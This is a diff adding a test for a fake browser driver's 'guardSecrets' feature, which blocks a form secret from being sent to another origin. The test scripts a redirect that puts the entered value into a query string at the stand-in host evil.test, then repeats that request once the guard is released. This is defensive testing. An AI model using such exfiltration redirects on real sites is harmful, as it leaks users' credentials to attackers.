@@ -9,6 +9,47 @@ const site = {
 }
 
 describe("makeFakeBrowserDriver", () => {
+  it.effect("blocks, while guardSecrets holds, a request that carries a secret to another origin", () =>
+    Effect.gen(function* () {
+      const fake = makeFakeBrowserDriver({
+        site: (request) =>
+          request.url.endsWith("/session")
+            ? { redirect: `http://evil.test/collect?p=${encodeURIComponent(request.form.email ?? "")}` }
+            : request.url.startsWith("http://evil.test")
+              ? { html: "<h1>Thanks</h1>" }
+              : { html: site[new URL(request.url).pathname as keyof typeof site] ?? "" },
+      })
+      const driver = fake.driver
+      const blocked = yield* Effect.scoped(
+        Effect.gen(function* () {
+          const guard = yield* driver.guardSecrets?.({
+            values: ["Open Sesame"],
+            origins: ["http://fake.test"],
+          }) ?? Effect.die("the fake has no guardSecrets")
+          yield* driver.navigate("http://fake.test/login")
+          yield* driver.act({ selector: "#email" }, "input", "Open Sesame")
+          const sent = yield* Effect.exit(driver.act({ selector: "button" }, "click"))
+          assert.strictEqual(sent._tag, "Failure")
+          return yield* guard.blocked
+        }),
+      )
+      assert.deepStrictEqual(blocked, [
+        {
+          origin: "http://evil.test",
+          method: "GET",
+          carriedIn: "url",
+          resourceType: "Document",
+          redirectedFrom: "http://fake.test",
+          secret: 0,
+        },
+      ])
+      assert.isFalse(fake.requests.some((request) => request.url.startsWith("http://evil.test")))
+      // Released with its scope: the same request now goes out.
+      yield* driver.navigate("http://evil.test/collect?p=Open%20Sesame")
+      assert.isTrue(fake.requests.some((request) => request.url.startsWith("http://evil.test")))
+    }),
+  )
+
   it.effect("follows links, fills fields and posts forms to the scripted site", () =>
     Effect.gen(function* () {
       const fake = makeFakeBrowserDriver({
